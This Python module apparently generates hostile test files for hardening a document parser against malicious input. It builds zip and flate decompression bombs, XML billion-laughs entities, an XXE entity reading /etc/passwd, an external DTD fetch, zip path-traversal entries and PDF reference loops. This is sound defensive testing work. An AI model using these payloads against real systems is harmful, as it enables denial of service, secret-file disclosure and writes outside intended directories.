"""Files that are small, or simple, and ask for much; in every format that is read."""

import io
import random
import zipfile
from collections.abc import Iterator

import pypdf

from hostile_documents import (
    PARAGRAPHS,
    assemble_pdf,
    deflate,
    make_docx_of,
    make_html,
    make_odt_of,
    make_pdf,
    make_stream,
    make_xml,
    make_zip,
    number_objects,
)

_SEED = 20310612
_MEGABYTE = 1_000_000
_LAUGHS = b"<!DOCTYPE a [<!ENTITY a0 'ha'>%b]>" % b"".join(
    b"<!ENTITY a%d '%b'>" % (number, b"&a%d;" % (number - 1) * 10) for number in range(1, 11)
)
_QUADRATIC = b"<!DOCTYPE a [<!ENTITY a '%b'>]>" % (b"ha" * 50_000)
_SECRET = b"<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
_FAR = b"<!DOCTYPE a SYSTEM 'http://192.0.2.1/a.dtd'>"
_PACKED = "/Filter /FlateDecode"


def make_bombs() -> Iterator[tuple[str, bytes]]:
    """Files that are small, or simple, and ask for much."""
    yield from _pdf_bombs()
    yield from _office_bombs()
    yield from _markup_bombs()
    yield from _text_bombs()
    yield from _archive_bombs()


def _pdf_bombs() -> Iterator[tuple[str, bytes]]:
    spaces = deflate(b" " * _MEGABYTE, 460)
    yield "flate-bom.pdf", assemble_pdf([spaces], filters=_PACKED)
    filters = "/Filter [/FlateDecode /FlateDecode]"
    yield "dubbele-flate-bom.pdf", assemble_pdf([deflate(spaces, 1)], filters=filters)
    shown = deflate(b"(Nederland steunt dit.) Tj\n" * 40_000, 100)
    yield "tekst-bom.pdf", assemble_pdf([shown], filters=_PACKED)
    yield "operatoren.pdf", assemble_pdf([b"0 0 m 1 1 l S " * 800_000])
    yield "q-operatoren.pdf", assemble_pdf([b"q " * 2_000_000])
    yield "letters.pdf", assemble_pdf([b"BT /F1 9 Tf " + b"(a) Tj " * 1_600_000 + b"ET"])
    yield "tienduizend-bladzijden.pdf", make_pdf(["Nederland."], pages=10_000)
    yield "diepe-rij.pdf", assemble_pdf([b"BT " + b"[" * 200_000 + b"] TJ ET"])
    deep = b"[" * 500_000
    yield "diep-object.pdf", number_objects([b"<< /Type /Catalog /Pages 2 0 R >>", deep])
    loop = b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"
    yield "bladzijden-lus.pdf", number_objects([b"<< /Type /Catalog /Pages 2 0 R >>", loop])
    claims = b"<< /Type /Pages /Count 2147483647 /Kids [] >>"
    yield "twee-miljard.pdf", number_objects([b"<< /Type /Catalog /Pages 2 0 R >>", claims])
    form = make_stream(b"/X0 Do /X0 Do", entries="/Subtype /Form /BBox [0 0 9 9] /Resources "
                       "<< /XObject << /X0 4 0 R >> >>")  # fmt: skip
    use = "/XObject << /X0 4 0 R >>"
    yield "formulier-lus.pdf", assemble_pdf([b"/X0 Do"], extra=[form], resources=use)
    image = make_stream(
        deflate(bytes(_MEGABYTE), 100),
        filters=_PACKED,
        entries="/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 "
        "/ColorSpace /DeviceGray",
    )
    yield (
        "reuzenafbeelding.pdf",
        assemble_pdf([b"595 0 0 842 0 0 cm /X0 Do"], extra=[image], resources=use),
    )
    good = make_pdf(PARAGRAPHS)
    start = good.index(b"trailer")
    yield "xref-lus.pdf", good.replace(b"/Root", b"/Prev %d /Root" % (good.index(b"xref")))
    yield "lange-stroom.pdf", good.replace(b"/Length ", b"/Length 99999999999")
    yield "negatieve-stroom.pdf", good.replace(b"/Length ", b"/Length -")
    yield "zonder-staart.pdf", good[:start]
    yield "twee-pdfs.pdf", good + good
    yield "reuzenbladzijde.pdf", good.replace(b"595 842", b"9999999 9999999")
    for length, name in ((0, "leeg-wachtwoord.pdf"), (8, "wachtwoord.pdf")):
        writer, stream = pypdf.PdfWriter(pypdf.PdfReader(io.BytesIO(good))), io.BytesIO()
        writer.encrypt("geheim__"[:length], owner_password="eigenaar", algorithm="RC4-128")
        writer.write(stream)
        yield name, stream.getvalue()


def _office_bombs() -> Iterator[tuple[str, bytes]]:
    paragraph = b"<w:p><w:r><w:t>Nederland.</w:t></w:r></w:p>"
    yield "zip-bom.docx", make_docx_of(b"<w:p/>" + b" " * (150 * _MEGABYTE))
    yield "drie-miljoen-alineas.docx", make_docx_of(b"<w:p/>" * 3_000_000)
    yield "anderhalf-miljoen-alineas.docx", make_docx_of(b"<w:p/>" * 1_600_000)
    yield "veel-alineas.docx", make_docx_of(paragraph * 200_000)
    yield (
        "een-alinea.docx",
        make_docx_of(b"<w:p>" + b"<w:r><w:t>a </w:t></w:r>" * 300_000 + b"</w:p>"),
    )
    yield "gelach.docx", make_docx_of(b"<w:p><w:r><w:t>&a10;</w:t></w:r></w:p>", before=_LAUGHS)
    yield "geheim.docx", make_docx_of(b"<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", before=_SECRET)
    for depth in (200, 2000, 100_000):
        cell = b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>"
        body = cell[0] * depth + paragraph + cell[1] * depth
        yield f"tabellen-{depth}-diep.docx", make_docx_of(body)
    yield "geen-brief.docx", make_zip({"[Content_Types].xml": b"<Types/>", "word/document": b""})
    yield (
        "veel-leden.docx",
        make_zip(
            {"[Content_Types].xml": b"", "word/document.xml": b""}
            | {f"word/{number}.xml": b"" for number in range(5000)}
        ),
    )
    yield "spaties.odt", make_odt_of(b'<text:p>a<text:s text:c="2000000000"/>b</text:p>')
    yield (
        "herhaald.odt",
        make_odt_of(
            b'<table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
            b'table:number-columns-repeated="16384"><text:p>a</text:p></table:table-cell>'
            b"</table:table-row></table:table>"
        ),
    )
    yield "gelach.odt", make_odt_of(b"<text:p>&a10;</text:p>", before=_LAUGHS)
    yield (
        "kwadratisch.odt",
        make_odt_of(b"<text:p>%b</text:p>" % (b"&a;" * 5000), before=_QUADRATIC),
    )
    yield "veel-alineas.odt", make_odt_of(b"<text:p>Nederland.</text:p>" * 300_000)
    yield "diep.odt", make_odt_of(b"<text:span>" * 100_000)
    yield "zip-bom.odt", make_odt_of(b" " * (150 * _MEGABYTE))
    yield "ole.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100_000)
    yield (
        "ole-rommel.doc",
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(_SEED).randbytes(100_000)),
    )
    yield "versleuteld.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage" * 1000


def _markup_bombs() -> Iterator[tuple[str, bytes]]:
    html = b"<!DOCTYPE html><html><body>%b</body></html>"
    yield "diep.html", html % (b"<div>" * 200_000 + b"Nederland." + b"</div>" * 200_000)
    yield "open.html", html % (b"<b><i>a" * 300_000)
    yield "alineas.html", html % (b"<p>Nederland.</p>" * 300_000)
    yield "tabellen.html", html % (b"<table><tr><td>" * 20_000)
    yield "brede-cel.html", html % b"<table><tr><td colspan=1000000000 rowspan=99999999>a</table>"
    yield (
        "attributen.html",
        html % (b"<p %b>a</p>" % b" ".join(b"a%d=1" % n for n in range(200_000))),
    )
    yield "lang-attribuut.html", html % (b"<p a='%b'>a</p>" % (b"x" * 10 * _MEGABYTE))
    yield "entiteiten.html", html % (b"&amp;&eacute;&#x10FFFF;&#xD800;&#0;" * 200_000)
    yield "commentaar.html", html % (b"<!--" + b"-" * 5 * _MEGABYTE)
    yield "script.html", html % (b"<script>" + b"a" * 5 * _MEGABYTE)
    yield "regel.html", html % (b"<p>" + b"woord " * 1_000_000)
    yield "tekenset.html", b"<html><meta charset='utf-7'><body>+ADw-script+AD4-</body></html>"
    yield "kop-lang.html", b"<!--" + b"x" * 5000 + b"-->" + make_html(PARAGRAPHS)
    root = (
        b"<?xml version='1.0'?>%b<officiele-publicatie><kamerstuk><al>%b</al></kamerstuk>"
        b"</officiele-publicatie>"
    )
    yield "diep.xml", root % (b"", b"<al>" * 100_000 + b"</al>" * 100_000)
    yield "minder-diep.xml", root % (b"", b"<al>" * 250 + b"Nederland." + b"</al>" * 250)
    yield "gelach.xml", root % (_LAUGHS, b"&a10;")
    yield "kwadratisch.xml", root % (_QUADRATIC, b"&a;" * 20_000)
    yield "geheim.xml", root % (_SECRET, b"&a;")
    yield "ver.xml", root % (_FAR, b"Nederland.")
    yield "attributen.xml", root % (
        b"", b"<p %b/>" % b" ".join(b"a%d='1'" % number for number in range(100_000))
    )  # fmt: skip
    yield "alineas.xml", root % (b"", b"</al><al>Nederland." * 300_000)
    yield "regel.xml", root % (b"", b"woord " * 1_500_000)
    yield "namen.xml", root % (b"", b"".join(b"<a%d/>" % number for number in range(500_000)))
    yield "andere-tekenset.xml", make_xml(PARAGRAPHS).replace(b"UTF-8", b"UTF-16")
    yield "onbekende-tekenset.xml", make_xml(PARAGRAPHS).replace(b"UTF-8", b"klingon-8")
    yield "geen-brief.xml", b"<?xml version='1.0'?><recept><ei/></recept>"
    yield "instructies.xml", root % (b"", b"<?a b?>" * 500_000)


def _text_bombs() -> Iterator[tuple[str, bytes]]:
    yield "een-regel.txt", b"x" * 10 * _MEGABYTE
    yield "een-regel-woorden.txt", b"woord " * 1_700_000
    yield "zinnen.txt", b"Ja. " * 1_000_000
    yield "veel-zinnen.txt", b"Ja. " * 10_000_000
    yield "witregels.txt", b"\n" * 5 * _MEGABYTE + b"x"
    yield "spaties.txt", b" " * 5 * _MEGABYTE + b"x"
    yield "alineas.txt", b"a\n\n" * 500_000
    yield "genummerd.txt", b"1 a\n" * 300_000
    yield "koppen.md", b"# a\n\n" * 300_000
    yield "opsomming.md", b"- a\n" * 300_000
    yield "afbrekingen.txt", b"af-\nbreking " * 200_000
    yield "kamerstukken.txt", b"Kamerstuk 32 317, nr. 964 " * 100_000
    yield "kamerstukken-open.txt", b"Kamerstukken 32 317, nrs. " + b"964, " * 300_000
    yield "dossiers.txt", b"32 317 " * 300_000
    yield "datums.txt", b"12 juni jl. en " * 200_000
    yield "haakjes.txt", b"(" * _MEGABYTE + b")" * _MEGABYTE
    yield "punten.txt", b"." * 2 * _MEGABYTE
    yield "streepjes.txt", b"-" * 2 * _MEGABYTE
    yield "aanhalingen.txt", "„“”’‘".encode() * 300_000
    yield "cijfers.txt", b"1234567890" * 300_000
    yield "voetnoten.txt", b"woord1 " * 200_000 + b"\n\n1 Noot.\n" * 20_000
    yield "hoofdletters.txt", b"A. B. C. d.d. nr. art. jl. " * 100_000
    yield "mojibake.txt", "Ã«Ã©â‚¬â€œ".encode() * 200_000
    yield "gestapeld.txt", ("e" + "\u0301" * 1000).encode() * 1000
    yield "onzichtbaar.txt", ("a\u200b\u202e\U000e0041" * 200_000).encode()
    yield "formfeeds.txt", b"a\x0c" * 500_000
    yield "cp1252.txt", "“Geïnformeerd” – één".encode("cp1252")
    yield "utf16.txt", "Nederland steunt één voorstel.".encode("utf-16")
    yield "utf16-zonder-merk.txt", "Nederland steunt één voorstel.".encode("utf-16-be")
    yield "utf32.txt", "Nederland steunt één voorstel.".encode("utf-32")
    yield "halve-tekens.txt", b"Nederland \xed\xa0\x80 steunt \xf8\x88\x80\x80\x80 dit. \xff"
    yield "besturing.txt", b"Nederland\x1b[2J\x07 steunt\x08\x08 dit.\x00"
    yield "oude-mac.txt", b"Nederland\rsteunt\rdit.\r"


def _archive_bombs() -> Iterator[tuple[str, bytes]]:
    bomb = make_zip({"nullen.txt": bytes(40 * _MEGABYTE)})
    yield "bom.zip", bomb
    yield "archief-in-archief.zip", make_zip({f"{number}.zip": bomb for number in range(10)})
    yield "veel-leden.zip", make_zip({f"{number}.txt": b"x" for number in range(5000)})
    yield "leeg.zip.zip", make_zip({})
    yield "ontsnapt.zip", make_zip({"../../../../tmp/ontsnapt.txt": b"Nederland ontsnapt."})
    yield "absoluut.zip", make_zip({"/etc/absoluut.txt": b"Nederland is absoluut."})
    yield "vreemd.zip", make_zip({"a\nb\x1b[2J\u202e.txt": b"Nederland is vreemd."})
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("lzma.txt", b"Nederland is stevig ingepakt.")
    yield "lzma.zip", stream.getvalue()
    locked = bytearray(make_zip({"slot.txt": b"Nederland zit op slot."}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + place] |= 1
    yield "versleuteld.zip", bytes(locked)
    lying = bytearray(make_zip({"lieg.txt": b"a" * 100_000}))
    at = lying.index(b"PK\x01\x02") + 24
    lying[at : at + 4] = (10).to_bytes(4, "little")  # says it unpacks to ten bytes
    yield "liegt.zip", bytes(lying)
    once = make_zip({"een.txt": b"Nederland een."})
    directory = once.index(b"PK\x01\x02")
    end = once.index(b"PK\x05\x06")
    yield (
        "overlapt.zip",
        (
            once[:directory]
            + once[directory:end] * 1000
            + once[end:][:8]
            + (1000).to_bytes(2, "little") * 2
            + (1000 * (end - directory)).to_bytes(4, "little")
            + once[end:][16:]
        ),
    )
